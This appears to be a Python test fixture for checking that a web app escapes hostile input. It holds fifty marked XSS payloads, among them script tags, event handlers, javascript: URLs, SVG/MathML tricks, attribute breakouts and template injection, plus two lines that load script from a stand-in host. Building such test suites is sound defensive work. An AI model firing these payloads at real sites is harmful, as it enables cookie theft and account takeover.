"""Fifty hostile strings for the XSS tests, each tagged with a marker (``xss01`` to
``xss50``) so a test can tell that the page did show it, as text, rather than drop it.

They cover script tags, event handlers, ``javascript:`` URLs, SVG and MathML, quoting
that tries to leave an attribute, template syntax, Markdown links and images, HTML
entities and Unicode look-alikes. ``pack`` groups them into strings that fit a field.
"""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    # Script tags, plain and disguised.
    "<script>alert('xss01')</script>",
    "<SCRIPT SRC=//evil.example/xss02.js></SCRIPT>",
    "<scr<script>ipt>alert('xss03')</scr</script>ipt>",
    "<script\x0c>alert('xss04')</script>",
    "</title><script>alert('xss05')</script>",
    "</textarea><script>alert('xss06')</script>",
    "<!--<script>alert('xss07')</script>-->",
    "<script type=module>import('//evil.example/xss08')</script>",
    # Event handlers.
    "<img src=x onerror=alert('xss09')>",
    "<body onload=alert('xss10')>",
    "<div onmouseover=\"alert('xss11')\">hover</div>",
    "<input autofocus onfocus=alert('xss12')>",
    "<details open ontoggle=alert('xss13')>",
    "<video><source onerror=alert('xss14')></video>",
    "<marquee onstart=alert('xss15')>",
    "<IMG SRC=x OnErRoR=alert('xss16')>",
    # javascript: and other dangerous URLs.
    "<a href=\"javascript:alert('xss17')\">click</a>",
    "<a href=\"  JaVaScRiPt:alert('xss18')\">click</a>",
    "<a href=\"java&#x09;script:alert('xss19')\">click</a>",
    "<iframe src=\"javascript:alert('xss20')\"></iframe>",
    "<form action=\"javascript:alert('xss21')\"><button>go</button></form>",
    "<object data=\"data:text/html,<script>alert('xss22')</script>\"></object>",
    "<embed src=\"javascript:alert('xss23')\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert('xss24')\">",
    # SVG and MathML.
    "<svg onload=alert('xss25')>",
    "<svg><script>alert('xss26')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('xss27')\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert('xss28') attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss29')>",
    "<math href=\"javascript:alert('xss30')\">x</math>",
    # Quoting that tries to leave the attribute or the element it lands in.
    "\" onmouseover=\"alert('xss31')",
    "' onfocus='alert(`xss32`)' autofocus='",
    "\"><script>alert('xss33')</script>",
    "'><img src=x onerror=alert('xss34')>",
    "`><svg onload=alert('xss35')>",
    "\" style=\"background:url(javascript:alert('xss36'))",
    # Template syntax, for Django and for client-side templating.
    "{{ request.user.password }} xss37",
    "{% debug %} xss38",
    "{{ 7|add:7 }}{% csrf_token %} xss39",
    "{{constructor.constructor('alert(`xss40`)')()}}",
    # Markdown links and images.
    "[xss41](javascript:alert(1))",
    "![xss42](javascript:alert(1))",
    '[xss43](  JAVASCRIPT:alert(1) "t")',
    "[xss44]: javascript:alert(1)\n\n[xss44]",
    "<javascript:alert('xss45')>",
    # HTML entities and Unicode tricks.
    "&lt;script&gt;alert('xss46')&lt;/script&gt;",
    "&#60;img src=x onerror=alert('xss47')&#62;",
    "\uff1cscript\uff1ealert('xss48')\uff1c/script\uff1e",
    "\u202e<img src=x onerror=alert('xss49')>\u202c",
    "<a href=\"\tjava\nscript:alert('xss50')\">x</a>",
)

MARKERS: tuple[str, ...] = tuple(f"xss{n:02d}" for n in range(1, len(PAYLOADS) + 1))


def pack(limit: int, payloads: tuple[str, ...] = PAYLOADS) -> list[str]:
    """The payloads joined by spaces into as few strings of at most ``limit`` characters
    as they fit, so that a short field still carries every one of them across a few rows."""
    packed: list[str] = []
    current = ""
    for payload in payloads:
        candidate = f"{current} {payload}" if current else payload
        if len(candidate) <= limit:
            current = candidate
        else:
            packed.append(current)
            current = payload
    packed.append(current)
    return packed


def markers_in(text: str) -> set[str]:
    """Which payloads' markers ``text`` contains."""
    return {marker for marker in MARKERS if marker in text}
